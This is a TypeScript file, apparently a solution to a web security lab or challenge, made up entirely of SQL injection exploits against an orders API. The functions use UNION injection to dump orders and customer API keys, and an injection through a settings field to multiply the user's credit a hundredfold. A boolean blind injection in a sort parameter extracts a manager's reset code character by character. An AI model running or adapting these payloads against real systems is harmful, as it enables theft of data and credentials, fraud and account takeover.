import { request } from 'ounce:client';

interface Me {
  name: string;
  key: string;
}

async function send(me: Me, method: string, url: string, body?: unknown): Promise<any> {
  const response = await request({ method, url, headers: { 'x-key': me.key }, body });
  return response.status === 200 ? JSON.parse(response.body) : `${response.status} ${response.body}`;
}

const search = (me: Me, item: string): Promise<any> => send(me, 'GET', `/orders?item=${encodeURIComponent(item)}`);
const report = (me: Me, sort: string): Promise<any> => send(me, 'GET', `/report?sort=${encodeURIComponent(sort)}`);

export async function readOrders(me: Me): Promise<unknown> {
  const found: unknown[] = [];
  for (let i = 0; i < 20; i++) {
    found.push(
      ...(await search(
        me,
        `' AND 0 UNION ALL SELECT * FROM (SELECT reference, item, total, status FROM orders LIMIT 1 OFFSET ${i}) --`,
      )),
    );
  }
  return found;
}

export async function readKey(me: Me): Promise<unknown> {
  const [{ item }] = await search(
    me,
    `' AND 0 UNION  SELECT 1, group_concat(name || ': ' || key, '; '), 3, 4 FROM customers --`,
  );
  return item;
}

export async function raiseCredit(me: Me): Promise<void> {
  await send(me, 'PUT', '/settings', { language: `\\'', credit=credit*100 WHERE name='${me.name}'/*` });
}

/** The lines stand as in a report that is sorted by hand, or the other way round. */
export async function readCode(me: Me): Promise<unknown> {
  const [{ status }] = await report(me, 'status');
  const mine = `'${status}'`;
  const above = async (place: number, character: string): Promise<boolean> => {
    const sort = `(status = ${mine}) = (EXISTS (SELECT 1 FROM staff WHERE role = 'manager' AND substr(reset_code, ${place}, 1) > '${character}'))`;
    const plain = await report(me, `(status = ${mine}) = 0`);
    const asked = await report(me, sort);
    return JSON.stringify(plain) !== JSON.stringify(asked);
  };
  let code = '';
  for (let place = 1; place <= 16; place++) {
    let digit = 0;
    while (digit < 15 && (await above(place, digit.toString(16)))) digit++;
    code += digit.toString(16);
  }
  return code;
}
